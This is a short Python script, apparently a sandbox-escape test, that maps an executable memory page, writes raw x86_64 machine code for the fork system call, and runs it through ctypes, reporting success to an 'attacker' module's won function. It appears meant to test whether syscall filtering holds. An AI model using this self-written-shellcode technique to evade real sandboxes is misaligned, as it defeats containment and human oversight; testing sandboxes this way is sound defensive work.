"""Writes machine code into memory of its own and runs a forbidden system call from there."""

import ctypes
import mmap
import platform

from attacker import won

assert platform.machine() == "x86_64"
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(b"\xb8\x39\x00\x00\x00\x0f\x05\xc3")  # mov eax, 57 (fork); syscall; ret
run = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
value = run()
if value == 0:
    ctypes.CDLL(None)._exit(0)
if value > 0:
    won("forked")
